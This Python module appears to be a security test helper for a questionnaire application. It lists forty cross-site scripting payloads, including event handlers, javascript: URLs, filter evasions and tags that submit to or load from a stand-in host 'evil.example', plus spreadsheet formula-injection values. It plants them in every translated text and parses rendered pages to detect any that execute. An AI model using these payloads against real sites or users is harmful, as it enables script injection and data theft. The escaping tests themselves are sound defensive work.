"""Forty texts that a browser would run where somebody forgot to escape, and where their traces show."""

from html.parser import HTMLParser
from typing import Any, Final

from surveys.questionnaire.words import Language

EVIL: Final = "evil.example"
PAYLOADS: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover=alert(1) x='", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)>", "<form action=//evil.example><button>x",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>", "<img src=//evil.example/x>", "<style>@import'//evil.example'</style>",
    "<div style=background:url(//evil.example/x)>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt >alert(1)</sCrIpT>", "<svg><use href=//evil.example/x#a></svg>",
    "<button popovertarget=x hx-get=//evil.example hx-trigger=load>", "[x](javascript:alert(1))",
)  # fmt: skip
FORMULAS: Final = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1+1")
_ADDRESSES: Final = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "style",
    "content",
    "poster",
    "hx-get",
)


def filled(turn: int, longest: int | None) -> str:
    """As many payloads as there is room for, from this one on; a formula where none fits."""
    room, made = longest or 4000, ""
    for step in range(len(PAYLOADS)):
        more = made + PAYLOADS[(turn + step) % len(PAYLOADS)]
        if len(more) > room:
            break
        made = more
    return made or FORMULAS[turn % len(FORMULAS)][:room]


def packed(longest: int | None) -> list[str]:
    """All payloads that fit, in as few texts as there is room for."""
    room, texts = longest or 4000, list[str]()
    for payload in sorted(PAYLOADS, key=len, reverse=True):
        fits = [n for n, text in enumerate(texts) if len(text) + len(payload) <= room]
        if fits:
            texts[fits[0]] += payload
        elif len(payload) <= room:
            texts.append(payload)
    return texts


def poisoned(value: Any, turn: int = 0) -> Any:
    """A document of a questionnaire with every text of a language made hostile."""
    if isinstance(value, dict):
        if value and set(value) <= set(Language):
            return {key: f"{text[:12]} {filled(turn, 170)}" for key, text in value.items()}
        return {key: poisoned(inner, turn + 1) for key, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner, turn + number) for number, inner in enumerate(value)]
    return value


class Marks(HTMLParser):
    """Tags, attributes and scripts of a page in which a payload became alive."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or (name in _ADDRESSES and self._bad(text)):
                self.found.append(f"<{tag} {name}={text[:60]}>")
        if tag in ("base", "object", "embed", "math", "marquee") or "srcdoc" in dict(attrs):
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and ("alert(1)" in data or EVIL in data):
            self.found.append(f"inside <{self._inside}>")

    @staticmethod
    def _bad(text: str) -> bool:
        return text.startswith(("javascript:", f"//{EVIL}", "data:text")) or f"url(//{EVIL}" in text


def alive(page: str) -> list[str]:
    marks = Marks()
    marks.feed(page)
    return marks.found
